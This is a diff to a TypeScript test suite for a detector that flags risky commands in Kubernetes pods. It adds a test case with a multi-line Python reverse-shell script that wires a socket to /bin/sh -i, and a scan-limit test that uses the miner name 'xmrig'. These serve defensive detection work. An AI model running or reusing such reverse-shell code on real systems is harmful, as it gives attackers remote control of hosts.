@@ -68,6 +68,13 @@ const CASES: Array<{ name: string; check: typeof hostEntry; script: string; want
     want: false,
   },
   {
+    name: 'a multi-line Python script joining a socket to a shell',
+    check: reverseShell,
+    script:
+      'python3 - <<EOF\nimport socket, subprocess\ns = socket.socket()\ns.connect(("h", 1))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())\nEOF',
+    want: true,
+  },
+  {
     name: 'a socket server in Python',
     check: reverseShell,
     script: 'python -c "import socket; s=socket.socket(); s.bind((\'\', 80))"',
@@ -97,6 +104,17 @@ describe('risks/commands heuristics', () => {
     assert.deepEqual(items, [
       'container app: env X (interactive shell on /dev/tcp, standard input from /dev/tcp)',
     ]);
+  });
+
+  it(`scans at most ${MAX_SCANNED_CHARS} characters per pod, all containers together`, () => {
+    const long = cleanContainer('long', { command: ['sh', '-c', 'x'.repeat(MAX_SCANNED_CHARS)] });
+    const second = cleanContainer('second', { command: ['xmrig'] });
+    const both = readPod(pod(cleanPodSpec({ containers: [long, second] })));
+    assert.ok(both);
+    assert.deepEqual(miner(both), []);
+    const alone = readPod(pod(cleanPodSpec({ containers: [second, long] })));
+    assert.ok(alone);
+    assert.equal(miner(alone).length, 1);
   });
 
   it(`scans at most ${MAX_SCANNED_CHARS} characters of a command line`, () => {
